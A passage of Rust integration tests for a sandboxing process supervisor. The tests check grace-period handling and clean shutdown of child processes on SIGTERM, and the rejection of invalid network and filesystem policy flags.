    let script = format!("{PRELUDE}\n{body}");
    let mut child = w
        .cmd(&["--grace-ms", "300"], &[python(), "-c", &script])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let pids: Vec<i32> = wait_for_file(&w.task.join("pids"))
        .split_whitespace()
        .map(|p| p.parse().unwrap())
        .collect();
    assert!(pids[..2].iter().all(|p| alive(*p)));
    assert!(alive_running(pids[2], python().as_bytes()));
    let t = Instant::now();
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(child.id() as i32),
        nix::sys::signal::Signal::SIGTERM,
    )
    .unwrap();
    let status = loop {
        if let Some(s) = child.try_wait().unwrap() {
            break s;
        }
        if t.elapsed() > Duration::from_secs(15) {
            let _ = child.kill();
            panic!("the supervisor did not stop");
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    assert_eq!(status.code(), Some(128 + 15));
    assert!(
        t.elapsed() >= Duration::from_millis(300),
        "the grace period was not honoured"
    );
    assert!(
        !alive_running(pids[2], python().as_bytes()),
        "the command ignoring SIGTERM outlived the stopped supervisor"
    );
    for pid in pids {
        assert!(
            !alive(pid),
            "pid {pid} (sleep 300) outlived the stopped supervisor"
        );
    }
}

#[test]
fn net_policy_flags_are_checked() {
    let w = World::new();
    let out = w.run(&["--net", "any", "--allow-port", "80"], &["true"]);
    assert_ne!(out.status.code(), Some(0));
    let out = w.run(&["--readable", "/"], &["true"]);
    assert_ne!(out.status.code(), Some(0));
    let out = Command::new(fanout_bin())
        .args(["sandbox", "-w", "/nonexistent-dir", "--", "true"])
        .output()
        .unwrap();
    assert_ne!(out.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&out.stderr).contains("/nonexistent-dir"));
    let _ = NetPolicy::default();
}
